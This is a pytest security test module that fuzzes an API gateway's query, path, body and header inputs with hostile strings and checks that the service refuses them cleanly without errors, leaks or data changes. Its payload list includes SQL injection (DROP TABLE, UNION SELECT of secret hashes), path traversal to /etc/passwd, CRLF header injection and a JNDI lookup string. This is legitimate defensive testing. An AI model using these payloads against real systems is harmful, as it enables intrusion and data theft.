"""Injection: hostile strings in every query parameter, path parameter, JSON body field and
documented header of every operation, found by walking the OpenAPI document.

Payloads: SQL injection, path traversal, CRLF, Unicode confusables and direction overrides,
NUL bytes, format/template strings and 1 MB strings. Each is sent in one place at a time, the
rest of the request valid (real ids, a caller that passes scope checks). The answer is a
clear 4xx problem or a correct result (a filter on the hostile value matches nothing but
itself; a created object stores it verbatim), never a 5xx, nothing leaks, and no data table
changes except by the creation the caller asked for.
"""

from __future__ import annotations

import base64
import json
from typing import Any
from urllib.parse import quote

import pytest

from tests.security.conftest import (
    API,
    LEAK_MARKERS,
    PROBLEM,
    caller_for,
    concrete_path,
    data_row_counts,
    minimal_instance,
    resolve,
)

PAYLOADS = {
    "sqli-quote": "' OR '1'='1",
    "sqli-stacked": "1; DROP TABLE subjects;--",
    "sqli-union": "' UNION SELECT client_id, secret_hash FROM api_clients--",
    "sqli-sleep": "'||pg_sleep(3)||'",
    "traversal": "../../../../etc/passwd",
    "traversal-encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "crlf": "x\r\nX-Injected: 1\r\nSet-Cookie: sid=1",
    "confusable-fullwidth": "ＷＭＰ",  # noqa: RUF001
    "confusable-cyrillic": "WМP",  # noqa: RUF001 (a Cyrillic Em)
    "bidi-override": "\u202eetadpu\u202c",
    "zero-width": "W\u200bM\u200dP",
    "nul": "a\x00b",
    "format": "%s%s%n{0.__class__}${jndi:ldap://x/a}{{7*7}}",
    "long-1mb": "A" * 1_000_000,
}
HEADERS = ("X-Purpose", "X-On-Behalf-Of", "X-Request-ID")


def check_answer(response, where: str, figures) -> None:  # type: ignore[no-untyped-def]
    figures.case(invalid=response.status_code >= 400, status=response.status_code)
    assert response.status_code < 500, (where, response.status_code)
    if response.status_code >= 400:
        assert response.content_type == PROBLEM, where
    text = response.get_data(as_text=True)
    for marker in LEAK_MARKERS:
        assert marker not in text, (where, marker)
    for name, value in response.headers:
        assert "X-Injected" not in value and "\n" not in value and "\r" not in value, where
        assert name.lower() not in ("x-injected", "set-cookie"), where


def filter_is_exact(response, name: str, payload: str, where: str) -> None:  # type: ignore[no-untyped-def]
    """A 200 list filtered on a hostile value holds only records with exactly that value."""
    if response.status_code != 200 or "items" not in (response.get_json() or {}):
        return
    for item in response.get_json()["items"]:
        record = item.get("event", item)
        if name in record:
            assert record[name] == payload, (where, record[name])


def body_slots(schema: dict, root: dict, at: tuple = ()) -> list[tuple[tuple, dict]]:
    """Every field of a request body (nested objects walked) with its schema."""
    slots = []
    for name, prop in resolve(root, schema).get("properties", {}).items():
        prop = resolve(root, prop)
        if prop.get("type") == "object" and "properties" in prop:
            slots.extend(body_slots(prop, root, (*at, name)))
        else:
            slots.append(((*at, name), prop))
    return slots


def with_value(body: dict, at: tuple, value: Any) -> dict:
    copy = json.loads(json.dumps(body))
    node = copy
    for part in at[:-1]:
        node = node.setdefault(part, {})
    node[at[-1]] = value
    return copy


@pytest.fixture
def baseline(api, operations, purposes_by_agency, known, db):  # type: ignore[no-untyped-def]
    """Per operation: a caller that passes scope checks, a real path, a valid body."""
    subject = sorted(r for r in known.refs(f"{API}/subjects") if len(r) == 36)[0]
    from gateway.models import SubjectIdentifier

    pnc = db.query(SubjectIdentifier).filter_by(scheme="PNC", subject_id=subject).first()
    overrides = {
        "subject_ref": subject,
        "to_agency": "VSP-MENTOR",
        "scheme": "PNC",
        "value": pnc.value if pnc else "12/1234567A",
    }
    found = {}
    for operation in operations:
        if operation.path in known.bodies:  # a create operation: as it worked when seeding
            agency, purpose, body = known.bodies[operation.path]
        else:
            agency, purpose = caller_for(api, operation, purposes_by_agency, known)
            body = (
                minimal_instance(operation.body_schema, operation.root, overrides)
                if operation.body_schema
                else None
            )
        found[operation] = (agency, purpose, concrete_path(operation.path, known), body)
    return found


def test_hostile_query_and_path_values(api, db, operations, baseline, figures):
    for operation in operations:
        agency, purpose, path, body = baseline[operation]
        before = data_row_counts(db) if operation.method == "get" else None
        for parameter in operation.parameters("query"):
            name = parameter["name"]
            for label, payload in PAYLOADS.items():
                response = api(
                    agency,
                    operation.method,
                    path,
                    purpose=purpose,
                    json=body,
                    query_string={name: payload},
                )
                where = f"{operation.label} ?{name}={label}"
                check_answer(response, where, figures)
                filter_is_exact(response, name, payload, where)
        template = operation.path
        while "{" in template:
            start, end = template.index("{"), template.index("}")
            name = template[start + 1 : end]
            for label, payload in PAYLOADS.items():
                hostile = concrete_path(
                    operation.path.replace("{" + name + "}", quote(payload, safe=""))
                )
                response = api(agency, operation.method, hostile, purpose=purpose, json=body)
                check_answer(response, f"{operation.label} {{{name}}}={label}", figures)
                assert (
                    response.status_code != 200 or operation.method != "get" or name == "transition"
                )
            template = template[end + 1 :]
        if before is not None:
            assert data_row_counts(db) == before, operation.label


def test_hostile_body_fields(api, db, operations, baseline, figures):
    with_body = [o for o in operations if o.body_schema is not None]
    assert with_body
    for operation in with_body:
        agency, purpose, path, body = baseline[operation]
        for at, schema in body_slots(operation.body_schema, operation.root):
            before = data_row_counts(db)
            created = False
            for label, payload in PAYLOADS.items():
                value: Any = [payload] if schema.get("type") == "array" else payload
                response = api(
                    agency,
                    operation.method,
                    path,
                    purpose=purpose,
                    json=with_value(body, at, value),
                )
                where = f"{operation.label} {'.'.join(at)}={label}"
                check_answer(response, where, figures)
                if response.status_code == 201:
                    created = True
                    figures.notes["stored_verbatim"] += 1
                    stored = response.get_json()
                    for part in at:
                        stored = stored.get(part, {}) if isinstance(stored, dict) else {}
                    assert stored in ({}, value), (where, "not stored as sent")
            if not created:
                assert data_row_counts(db) == before, f"{operation.label} {'.'.join(at)}"


def test_hostile_documented_headers(client, token_for, operations, baseline, figures):
    """Headers through the WSGI environ, as a lenient proxy could pass them on."""
    for operation in operations[:: max(1, len(operations) // 6)]:
        agency, purpose, path, body = baseline[operation]
        for header in HEADERS:
            for label, payload in PAYLOADS.items():
                environ = {
                    "HTTP_AUTHORIZATION": f"Bearer {token_for(agency)}",
                    "HTTP_X_PURPOSE": purpose,
                    # WSGI carries header bytes as latin-1 text
                    "HTTP_" + header.upper().replace("-", "_"): payload.encode().decode("latin-1"),
                }
                response = client.open(
                    path, method=operation.method.upper(), json=body, environ_overrides=environ
                )
                check_answer(response, f"{operation.label} {header}: {label}", figures)
                if header != "X-On-Behalf-Of" or len(payload) > 128 or "\n" in payload:
                    assert response.status_code == 400, (operation.label, header, label)


# -- cursors: opaque to the client, but the client holds them -----------------------------


def encode(position: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(position).encode()).decode().rstrip("=")


def cursor_operations(operations, baseline, api):  # type: ignore[no-untyped-def]
    """(operation, parameter, keys of a real cursor) for every list that pages by cursor."""
    for operation in operations:
        for parameter in operation.parameters("query"):
            if parameter["name"] not in ("cursor", "since"):
                continue
            agency, purpose, path, _ = baseline[operation]
            body = api(agency, "get", f"{path}?limit=1", purpose=purpose).get_json() or {}
            issued = body.get("next_cursor") or next(
                (i["cursor"] for i in body.get("items", []) if "cursor" in i), None
            )
            keys = {"after": 1}
            if issued:
                keys = json.loads(base64.urlsafe_b64decode(issued + "=" * (-len(issued) % 4)))
            yield operation, parameter["name"], keys


TAMPERED = (None, [1], {"a": 1}, 10**30, -1, True, 1.5, "x" * 65, "\u202e")


def test_tampered_cursors_are_refused_not_failed(api, operations, baseline, figures):
    found = list(cursor_operations(operations, baseline, api))
    assert len(found) >= 3
    for operation, name, keys in found:
        agency, purpose, path, _ = baseline[operation]
        variants = [{k: value for k in keys} for value in TAMPERED]
        variants += [[1], "text", {**keys, "extra": 1}, {}]
        for position in variants:
            response = api(
                agency, "get", path, purpose=purpose, query_string={name: encode(position)}
            )
            check_answer(response, f"{operation.label} {name}={position!r}", figures)
            assert response.status_code == 400, (operation.label, position, response.status_code)


def test_cursor_positions_of_the_wrong_type_are_refused(api, operations, baseline, figures):
    failures = []
    for operation, name, keys in cursor_operations(operations, baseline, api):
        agency, purpose, path, _ = baseline[operation]
        swapped = {k: ("x" if isinstance(v, int) else 7) for k, v in keys.items()}
        response = api(agency, "get", path, purpose=purpose, query_string={name: encode(swapped)})
        figures.case(invalid=True)
        if response.status_code >= 500:
            failures.append(f"{operation.label}: {response.status_code}")
    assert not failures, failures
